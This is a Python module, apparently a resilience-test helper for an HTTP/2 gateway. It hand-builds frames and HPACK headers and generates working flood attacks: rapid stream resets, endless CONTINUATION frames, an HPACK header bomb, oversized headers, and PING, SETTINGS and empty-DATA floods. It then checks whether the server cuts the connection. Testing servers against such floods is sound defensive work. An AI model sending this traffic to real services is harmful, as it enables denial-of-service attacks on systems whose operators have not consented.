"""HTTP/2 as those speak it who mean harm: frames by hand, and floods of them.

*head* is always a block of headers that begins a stream, as `literal` writes them.
"""

import asyncio
import socket
from collections.abc import Callable, Iterable, Iterator

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
_PATIENCE = 30.0  # for a gateway that takes nothing, or says nothing
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """One frame of HTTP/2, as RFC 9113 has it."""
    return len(body).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + body


def literal(name: bytes, value: bytes, *, index: bool = False) -> bytes:
    """One header of HPACK without Huffman's code, entered into the table of both ends if *index*."""
    return (b"\x40" if index else b"\x00") + number(len(name), 7) + name + number(len(value), 7) + value


def number(value: int, bits: int) -> bytes:
    """HPACK's way to write a number."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((value,))
    written, value = bytearray((most,)), value - most
    while value > 127:
        written.append(value & 127 | 128)
        value >>= 7
    return bytes((*written, value))


def resets(head: bytes) -> Iterator[bytes]:
    """Ask and take it back, again and again."""
    for stream in range(1, 40_001, 2):
        yield frame(HEADERS, END_HEADERS, stream, head)
        yield frame(RST_STREAM, 0, stream, (8).to_bytes(4))


def continuations(head: bytes) -> Iterator[bytes]:
    """Headers that never end."""
    yield frame(HEADERS, 0, 1, head)
    for _ in range(20_000):
        yield frame(CONTINUATION, 0, 1, literal(b"x-more", b"y" * 8_000))


def bomb(head: bytes) -> Iterator[bytes]:
    """A long header that is entered once, and then said a thousand times in a byte each."""
    long = literal(b"x-long", b"z" * 3_900, index=True)
    for stream in range(1, 2_001, 2):
        yield frame(HEADERS, END_HEADERS, stream, head + long + b"\xbe" * 1_000)


def giants(head: bytes, frames: int) -> Iterator[bytes]:
    """Headers that are *frames* long, each 16 KiB."""
    giant = literal(b"x-giant", b"a" * 16_000)
    for stream in range(1, 4_001, 2):
        yield frame(HEADERS, END_HEADERS * (frames == 1), stream, head + giant)
        for left in range(frames - 1, 0, -1):
            yield frame(CONTINUATION, END_HEADERS * (left == 1), stream, giant)


def pings() -> Iterator[bytes]:
    """Questions, to answers that nobody reads."""
    for _ in range(3_000):
        yield frame(PING, 0, 0, bytes(8)) * 100


def settings() -> Iterator[bytes]:
    """Settings, each of which is to be answered."""
    for _ in range(3_000):
        yield frame(SETTINGS, 0, 0, b"") * 100


def nothings(head: bytes) -> Iterator[bytes]:
    """A body that goes on and on, of nothing."""
    yield frame(HEADERS, END_HEADERS, 1, head)
    for _ in range(3_000):
        yield frame(DATA, 0, 1, b"") * 100


async def is_shut_out(connect: Callable[[], socket.socket], attack: Iterable[bytes]) -> bool:
    """Whether a connection is ended over *attack*, of which nothing is read before.

    It has a thread of its own: the loop of everybody else is not to be held up by it.
    """
    return await asyncio.to_thread(_is_shut_out, connect, attack)


def _is_shut_out(connect: Callable[[], socket.socket], attack: Iterable[bytes]) -> bool:
    with connect() as connection:
        connection.settimeout(_PATIENCE)
        try:
            for part in attack:
                connection.sendall(part)
            while connection.recv(1 << 20):
                pass
        except TimeoutError:
            return False
        except OSError:  # among them those of TLS
            return True
    return True
